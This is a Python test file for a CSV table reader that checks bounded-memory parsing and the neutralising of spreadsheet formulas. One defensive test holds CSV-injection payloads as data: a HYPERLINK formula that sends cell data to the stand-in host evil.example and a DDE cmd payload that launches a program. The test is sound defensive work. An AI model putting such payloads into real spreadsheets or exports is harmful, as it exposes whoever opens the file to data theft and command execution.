"""A CSV table is read in bounded memory and never loses a row without saying so; cells
that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import os
import threading

import pytest
from click.testing import CliRunner

from checker.cli import main
from checker.errors import InputError, Problem
from checker.location.table import TableRow, neutral_cell, neutral_row, read_table


def _read(tmp_path, text: str) -> list:
    table = tmp_path / "t.csv"
    table.write_text(text, encoding="utf-8")
    return [
        (r.line, r.data["id"]) if isinstance(r, TableRow) else r.render("en")
        for r in read_table(table)
    ]


def test_a_stray_quote_is_reported_with_its_line_and_the_rows_after_it_are_still_read(tmp_path):
    got = _read(tmp_path, 'id,name\nrow-a,A\nrow-b,"B,2\nrow-c,C\nrow-d,D\n')
    table = tmp_path / "t.csv"
    assert got == [
        (2, "row-a"),
        f"{table}:3: a quote opened in this row is never closed: this row could not be read; the"
        " lines after it are read as rows of their own — close the quote, or remove it",
        (4, "row-c"),
        (5, "row-d"),
    ]


def test_two_stray_quotes_that_pair_up_lose_only_the_rows_they_open_in(tmp_path):
    got = _read(tmp_path, 'id,name\nrow-a,A\nrow-b,"B\nrow-c,C\nrow-d,"D\nrow-e,E\n')
    table = tmp_path / "t.csv"
    # the first quote closes at the second, which the csv reader cannot end a cell on
    assert got[0] == (2, "row-a")
    assert got[1].startswith(f"{table}:3: not a CSV row: ")
    assert got[2] == (4, "row-c")
    assert got[3].startswith(f"{table}:5: a quote opened in this row is never closed")
    assert got[4:] == [(6, "row-e")]
    counted = list(read_table(table, typed=False))  # an audit counts as many items
    assert [r.line for r in counted] == [2, 3, 4, 5, 6]


def test_a_quoted_cell_over_several_lines_is_still_one_cell(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text('id,name\nrow-a,"A\nand more"\nrow-b,B\n', encoding="utf-8")
    rows = list(read_table(table))
    assert [(r.line, r.data["id"], r.data["name"]) for r in rows] == [
        (2, "row-a", "A\nand more"),
        (4, "row-b", "B"),
    ]


def test_a_quote_in_the_middle_of_a_cell_is_that_rows_problem_and_the_next_rows_are_read(
    tmp_path,
):
    got = _read(tmp_path, 'id,name\nrow-a,A\nrow-b,"B"x\nrow-c,C\n')
    assert got[0] == (2, "row-a")
    assert got[1].startswith(f"{tmp_path / 't.csv'}:3: not a CSV row: ")
    assert got[2] == (4, "row-c")


def test_an_oversized_cell_is_reported_and_the_rows_after_it_are_still_read(tmp_path):
    got = _read(tmp_path, "id,name\nrow-a,A\nrow-b," + "B" * 200_000 + "\nrow-c,C\nrow-d,D\n")
    assert got[0] == (2, "row-a")
    assert got[1] == (
        f"{tmp_path / 't.csv'}:3: a cell of this row has more than 131072 characters — shorten"
        " it, or set OPVANGTOETS_MAX_CELL_CHARS to raise the limit"
    )
    assert got[2:] == [(4, "row-c"), (5, "row-d")]


def test_an_overlong_line_is_skipped_without_being_held_and_reported(tmp_path, monkeypatch):
    monkeypatch.setenv("OPVANGTOETS_MAX_LINE_CHARS", "1000")
    got = _read(tmp_path, "id,name\nrow-a,A\n" + "x," * 5000 + "\nrow-c,C\n")
    assert got == [
        (2, "row-a"),
        f"{tmp_path / 't.csv'}:3: this line has more than 1000 characters — shorten it, or set"
        " OPVANGTOETS_MAX_LINE_CHARS to raise the limit",
        (4, "row-c"),
    ]


def test_a_line_that_is_not_utf8_is_reported_exactly_and_the_next_lines_are_read(tmp_path):
    # a file that is UTF-8 beyond ASCII (row-a) is UTF-8 throughout: a bad line is that line's
    table = tmp_path / "t.csv"
    table.write_bytes(b"id,name\nrow-a,Caf\xc3\xa9\nrow-b,\xff\xfe\nrow-c,C\n")
    got = [r if isinstance(r, TableRow) else r.render("nl") for r in read_table(table)]
    assert [r.line for r in got if isinstance(r, TableRow)] == [2, 4]
    assert got[1].startswith(f"{table}:3: deze regel is geen UTF-8-tekst (")


def test_more_rows_than_the_location_limit_stop_the_reading_with_a_problem(tmp_path, monkeypatch):
    monkeypatch.setenv("OPVANGTOETS_MAX_LOCATIONS", "3")
    got = _read(tmp_path, "id,name\n" + "".join(f"r-{i},N\n" for i in range(10)))
    assert got[:3] == [(2, "r-0"), (3, "r-1"), (4, "r-2")]
    assert got[3:] == [
        f"{tmp_path / 't.csv'}:5: the table has more than 3 rows; the rest is not read — shorten"
        " it, or set OPVANGTOETS_MAX_LOCATIONS to raise the limit"
    ]


def test_a_fifo_table_is_refused_before_reading_and_does_not_block(tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    done = threading.Event()
    result: list = []

    def read():
        try:
            list(read_table(fifo))
        except InputError as exc:
            result.append(exc.problems[0].render("en"))
        done.set()

    threading.Thread(target=read, daemon=True).start()
    assert done.wait(10), "reading a FIFO blocked"
    assert result == [f"{fifo}: is not a regular file"]


def test_a_link_to_dev_zero_and_an_oversized_table_are_refused_before_reading(
    tmp_path, monkeypatch
):
    zero = tmp_path / "zero.csv"
    zero.symlink_to("/dev/zero")
    with pytest.raises(InputError) as info:
        list(read_table(zero))
    assert info.value.problems[0].render("nl") == f"{zero}: is geen gewoon bestand"
    monkeypatch.setenv("OPVANGTOETS_MAX_TABLE_BYTES", "100")
    big = tmp_path / "big.csv"
    big.write_text("id,name\n" + "r,N\n" * 100, encoding="utf-8")
    with pytest.raises(InputError) as info:
        list(read_table(big))
    assert info.value.problems[0].render("en") == (
        f"{big}: too large: table size in bytes 408, more than the limit of 100 — set"
        " OPVANGTOETS_MAX_TABLE_BYTES to raise the limit"
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_written_as_text(start):
    assert neutral_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"


def test_numbers_and_plain_text_are_written_unchanged():
    assert neutral_row(["-2", "-2.5", 3, None, "Sporthal", "a=b"]) == [
        "-2",
        "-2.5",
        3,
        None,
        "Sporthal",
        "a=b",
    ]


def test_audit_csv_neutralises_formulas_from_location_names(tmp_path):
    table = tmp_path / "inj.csv"
    table.write_text(
        "id,name,location_type,children_count\n"
        'csv-a,"=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",regular_azc,3\n'
        "csv-b,+cmd|' /C calc'!A0,regular_azc,3\n"
        "csv-c,-2+3+cmd,regular_azc,3\n"
        "csv-d,@SUM(1+1),regular_azc,3\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(main, ["audit", str(table), "--workers", "1", "--csv", str(out)])
    assert result.exit_code == 1, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert names == [
        '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd",
        "'@SUM(1+1)",
    ]


def test_problem_rows_are_problems_not_rows(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text('id,name\n"a\n', encoding="utf-8")
    assert all(isinstance(r, Problem) for r in read_table(table))


def test_a_stray_quote_that_runs_into_the_cell_limit_loses_only_its_own_row(tmp_path, monkeypatch):
    monkeypatch.setenv("OPVANGTOETS_MAX_CELL_CHARS", "1000")
    rows = "".join(f"row-{i},R{i}\n" for i in range(4, 204))
    got = _read(tmp_path, 'id,name\nrow-a,A\nrow-b,"B\n' + rows)
    assert got[0] == (2, "row-a")
    assert got[1].startswith(f"{tmp_path / 't.csv'}:3: a cell of this row has more than 1000")
    assert got[2:] == [(i, f"row-{i}") for i in range(4, 204)]
